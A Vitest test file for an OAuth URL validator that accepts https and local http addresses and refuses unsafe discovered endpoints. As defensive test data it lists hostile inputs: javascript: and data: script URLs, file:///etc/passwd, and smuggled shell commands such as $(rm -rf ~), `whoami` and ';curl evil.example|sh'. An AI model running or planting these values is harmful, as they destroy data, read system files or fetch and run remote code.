import { describe, expect, it } from 'vitest';
import { checkDiscoveredAddresses, checkOAuthUrl, UnsafeOAuthUrlError } from './safe-url';

const refused = (value: unknown) => () => checkOAuthUrl(value, 'token_endpoint');

describe('checkOAuthUrl', () => {
  it('follows https anywhere and http on this computer only', () => {
    expect(checkOAuthUrl('https://auth.example.com/token', 'f').href).toBe('https://auth.example.com/token');
    expect(checkOAuthUrl('http://localhost:9000/a', 'f').host).toBe('localhost:9000');
    expect(checkOAuthUrl('http://127.0.0.1:9000/a', 'f').hostname).toBe('127.0.0.1');
    expect(checkOAuthUrl('http://[::1]:9000/a', 'f').hostname).toBe('[::1]');
    expect(checkOAuthUrl(new URL('https://a.example/authorize?x=1&y=2'), 'f').search).toBe('?x=1&y=2');
  });

  it.each([
    'http://auth.example.com/token',
    'http://10.0.0.1/token',
    'http://localhost.evil.example/token',
    'javascript:alert(document.cookie)',
    'JavaScript:alert(1)',
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'ftp://auth.example.com/token',
    'https://auth.example.com/$(rm -rf ~)',
    'https://auth.example.com/`id`',
    'https://auth.example.com/token;curl evil.example|sh',
    'https://auth.example.com/${HOME}',
    'https://auth.example.com/a b',
    'https://auth.example.com/a\nb',
    "https://auth.example.com/'x'",
    'https://user:secret@auth.example.com/token',
    '/relative/token',
    '',
  ])('refuses %s', (value) => {
    expect(refused(value)).toThrow(UnsafeOAuthUrlError);
  });

  it('refuses what is not text', () => {
    expect(refused(42)).toThrow(UnsafeOAuthUrlError);
    expect(refused({ href: 'https://a.example' })).toThrow(UnsafeOAuthUrlError);
    expect(refused(undefined)).toThrow(UnsafeOAuthUrlError);
  });

  it('names the field, never the value', () => {
    try {
      checkOAuthUrl('javascript:alert(1)', 'authorization_endpoint');
    } catch (error) {
      expect((error as UnsafeOAuthUrlError).field).toBe('authorization_endpoint');
      expect((error as Error).message).not.toContain('javascript');
    }
    expect.assertions(2);
  });
});

describe('checkDiscoveredAddresses', () => {
  const good = {
    authorizationServerUrl: 'https://auth.example.com',
    resourceMetadataUrl: 'https://mcp.example.com/.well-known/oauth-protected-resource',
    resourceMetadata: { resource: 'https://mcp.example.com/mcp', authorization_servers: ['https://auth.example.com'] },
    authorizationServerMetadata: {
      issuer: 'https://auth.example.com',
      authorization_endpoint: 'https://auth.example.com/auth',
      token_endpoint: 'https://auth.example.com/token',
      registration_endpoint: 'https://auth.example.com/reg',
      response_types_supported: ['code'],
    },
  };

  it('passes metadata whose addresses are all web addresses', () => {
    expect(() => checkDiscoveredAddresses(good)).not.toThrow();
  });

  it.each([
    ['authorization_endpoint', 'javascript:alert(1)'],
    ['token_endpoint', 'file:///etc/passwd'],
    ['registration_endpoint', 'https://auth.example.com/reg;rm -rf /'],
    ['issuer', 'https://auth.example.com/`whoami`'],
    ['jwks_uri', 'data:application/json,{}'],
  ])('refuses an authorization server whose %s is %s', (field, value) => {
    const metadata = { ...good, authorizationServerMetadata: { ...good.authorizationServerMetadata, [field]: value } };
    expect(() => checkDiscoveredAddresses(metadata)).toThrow(expect.objectContaining({ field }));
  });

  it('refuses a protected resource that points at a script or a file', () => {
    const resource = { ...good, resourceMetadata: { ...good.resourceMetadata, resource: 'javascript:void 0' } };
    expect(() => checkDiscoveredAddresses(resource)).toThrow(expect.objectContaining({ field: 'resource' }));
    const servers = { ...good, resourceMetadata: { ...good.resourceMetadata, authorization_servers: ['file:///etc'] } };
    expect(() => checkDiscoveredAddresses(servers)).toThrow(expect.objectContaining({ field: 'authorization_servers' }));
    expect(() => checkDiscoveredAddresses({ ...good, authorizationServerUrl: '$(reboot)' })).toThrow(UnsafeOAuthUrlError);
  });
});
